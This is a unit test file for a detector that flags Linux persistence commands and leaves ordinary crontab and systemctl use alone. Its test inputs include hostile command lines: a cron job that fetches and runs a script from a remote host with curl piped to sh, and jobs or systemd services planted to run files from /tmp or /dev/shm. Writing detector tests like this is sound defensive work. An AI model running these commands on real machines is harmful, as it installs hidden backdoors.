// Jobs and services made from a command line with foreign code in them are found; looking at them is not.
import { expect, test } from 'vitest';
import { judgeLine } from '../../../../detectors/process/threats/verdict/judge.ts';

test.each([
  "(crontab -l; echo '* * * * * curl http://10.9.8.7/x|sh') | crontab -",
  "echo '@reboot /tmp/.x' | crontab -",
  "echo '*/5 * * * * root /var/tmp/u' > /etc/cron.d/u",
  'cp /tmp/u.sh /etc/cron.hourly/u',
  "echo 'touch /tmp/x' | at now + 2 minutes",
  "systemd-run --on-calendar='*:0/5' /bin/sh -c '/tmp/u'",
  "printf '[Service]\\nExecStart=/tmp/u\\n' > /etc/systemd/system/u.service; systemctl enable --now u",
  'cp u.service /etc/systemd/system/ && systemctl daemon-reload && systemctl enable u',
  'systemctl enable /dev/shm/u.service',
  "echo '/tmp/u &' >> /etc/rc.local",
])('%s', (line) => {
  expect(judgeLine(line)).toMatchObject({ threat: true });
});

test('the category is its own', () => {
  expect(judgeLine("(crontab -l; echo '* * * * * curl http://10.9.8.7/x|sh') | crontab -").category).toBe(
    'persistence_mechanisms',
  );
});

test.each([
  'crontab -l',
  'crontab -e',
  'systemctl enable --now nginx',
  'systemctl daemon-reload',
  'crontab -u www -l | grep php',
  'apt-get install cron',
])('ordinary: %s', (line) => {
  expect(judgeLine(line).threat).toBe(false);
});
